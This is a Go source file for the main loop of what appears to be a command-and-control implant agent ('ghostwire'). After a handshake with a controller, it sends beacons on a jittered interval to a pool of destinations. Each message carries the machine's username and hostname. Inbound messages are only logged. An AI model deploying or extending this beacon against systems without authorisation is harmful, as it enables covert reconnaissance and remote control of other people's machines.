// Package main implements the agent process: it builds the configured
// transport, performs the bootstrap handshake and then beacons until the
// destination pool is exhausted or the process is told to stop.
package main

import (
	"context"
	"encoding/binary"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"os/user"
	"syscall"
	"time"

	"github.com/rs/zerolog"
	"github.com/rs/zerolog/log"

	"ghostwire/pkg/config"
	"ghostwire/pkg/transport"
)

// Exit codes.
const (
	Success            = 0 // success
	ErrContextCanceled = 1 // context canceled
	ErrBadConfig       = 2 // unusable configuration
	ErrHandshake       = 3 // bootstrap handshake failed
	ErrExhausted       = 4 // every destination is dead
)

// ConfigPath can be set at compile time or via command line flag.
var ConfigPath string

// helloEnvelope builds the bootstrap metadata: the agent identifier
// followed by username@hostname.
func helloEnvelope(agentID uint32) []byte {
	hostname, err := os.Hostname()
	if err != nil {
		hostname = "unknown"
	}

	currentUser, err := user.Current()
	if err != nil {
		currentUser = &user.User{Username: "unknown"}
	}

	info := fmt.Sprintf("%s@%s", currentUser.Username, hostname)

	envelope := make([]byte, 4+len(info))
	binary.LittleEndian.PutUint32(envelope, agentID)
	copy(envelope[4:], info)

	return envelope
}

// beacon runs the send loop: one heartbeat per interval, exponential
// backoff after failures, and a hard stop once the pool reports that
// every destination is dead under a finite retry budget.
func beacon(ctx context.Context, cfg *config.Config, t *transport.Transport) int {
	retryDelay := transport.InitialRetryDelay

	for {
		select {
		case <-ctx.Done():
			return ErrContextCanceled
		case <-time.After(beaconInterval(cfg)):
		}

		heartbeat := helloEnvelope(cfg.AgentID)

		resp, code := t.Send(ctx, heartbeat, true)
		switch code {
		case transport.ErrNone:
			retryDelay = transport.InitialRetryDelay
			log.Debug().Int("response_bytes", len(resp)).Msg("beacon delivered")
		case transport.ErrContextCanceled:
			return ErrContextCanceled
		default:
			if !t.Checkup() {
				log.Warn().Msg("every destination is dead, giving up")
				return ErrExhausted
			}

			var waitCode byte
			if retryDelay, waitCode = transport.WaitDelay(ctx, retryDelay); waitCode != transport.ErrNone {
				return ErrContextCanceled
			}
		}

		// Pipe and blob deployments receive their inbound traffic
		// separately from the send round trip.
		drainInbound(ctx, t)
	}
}

// drainInbound pulls already-arrived messages until the carrier reports
// nothing more is waiting.
func drainInbound(ctx context.Context, t *transport.Transport) {
	for {
		data, code := t.Recv(ctx)
		if code != transport.ErrNone {
			return
		}
		log.Debug().Int("bytes", len(data)).Msg("message received")
	}
}

// beaconInterval applies the configured jitter percentage to the beacon
// interval.
func beaconInterval(cfg *config.Config) time.Duration {
	if cfg.Jitter == 0 {
		return cfg.Interval
	}

	span := int64(cfg.Interval) * int64(cfg.Jitter) / 100
	if span == 0 {
		return cfg.Interval
	}

	offset := int64(transport.RandomUint32())%(2*span) - span
	return time.Duration(int64(cfg.Interval) + offset)
}

// init configures logging with zerolog
// Sets up console output and INFO level logging
func init() {
	zerolog.TimeFieldFormat = zerolog.TimeFormatUnix
	zerolog.SetGlobalLevel(zerolog.InfoLevel)

	log.Logger = log.Output(zerolog.ConsoleWriter{Out: os.Stderr})
}

func main() {
	flag.StringVar(&ConfigPath, "c", ConfigPath, "Configuration file")
	debug := flag.Bool("v", false, "Verbose logging")
	flag.Parse()

	if *debug {
		zerolog.SetGlobalLevel(zerolog.DebugLevel)
	}

	cfg, err := config.Load(ConfigPath)
	if err != nil {
		log.Error().Err(err).Msg("configuration is unusable")
		os.Exit(ErrBadConfig)
	}

	// Create context that can be cancelled with CTRL+C
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGINT, syscall.SIGTERM)
	go func() {
		<-sig
		cancel()
	}()

	t, err := transport.New(cfg)
	if err != nil {
		log.Error().Err(err).Msg("building transport failed")
		os.Exit(ErrBadConfig)
	}
	defer t.Close()

	if !t.Init(ctx, helloEnvelope(cfg.AgentID)) {
		log.Error().Msg("handshake with controller failed")
		os.Exit(ErrHandshake)
	}

	log.Info().Uint32("agent_id", cfg.AgentID).Str("carrier", cfg.Carrier).
		Msg("session established")

	os.Exit(beacon(ctx, cfg, t))
}
